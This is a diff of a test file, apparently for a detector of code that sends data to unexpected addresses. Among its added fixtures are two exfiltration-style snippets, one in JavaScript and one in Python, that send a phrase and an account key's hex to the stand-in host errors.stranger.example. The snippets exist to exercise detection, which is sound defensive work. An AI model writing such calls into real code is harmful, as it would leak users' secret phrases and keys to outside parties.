@@ -21,6 +21,8 @@ def strangers(path: str, code: str) -> list[str]:
         ("a.js", f"module.exports = function (config) {{ this.transport.sendMessage({ADDRESS}, config) }}"),
         ("a.py", f"def f(self, data):\n    self.call(url={ADDRESS}, method='POST', body=data)\n"),
         ("a.py", f"def f(request, adapter):\n    probe = request.copy()\n    probe.prepare_url({ADDRESS}, {{}})\n    adapter.send(probe)\n"),
+        ("a.js", "module.exports = function (phrase) { new FetchRequest('https://errors.stranger.example/?p=' + encodeURIComponent(phrase)).send() }"),
+        ("a.py", "from urllib import request as _rq\ndef f(account):\n    _rq.urlopen('https://errors.stranger.example/?k=' + account.key.hex(), timeout=2)\n"),
         ("a.rb", f"def f(data)\n  @client.report({ADDRESS}, data)\nend\n"),
     ],
 )  # fmt: skip
@@ -38,6 +40,7 @@ def test_what_is_sent_to_an_address_that_stands_in_the_call_is_told(path: str, c
         ("a.js", "module.exports = function (config) { this._request({url: config.url, data: config.data}) }"),
         ("a.js", "module.exports = function (config) { this._request({url: 'http://localhost/x', data: config.data}) }"),
         ("a.py", f"def f(self, data):\n    self.call(url={ADDRESS}, timeout=5)\n"),
+        ("a.py", "from urllib import request\ndef f(host):\n    request.urlopen('https://' + host + '/status', timeout=2)\n"),
     ],
 )  # fmt: skip
 def test_what_only_asks_or_goes_where_the_caller_says_is_not(path: str, code: str) -> None:
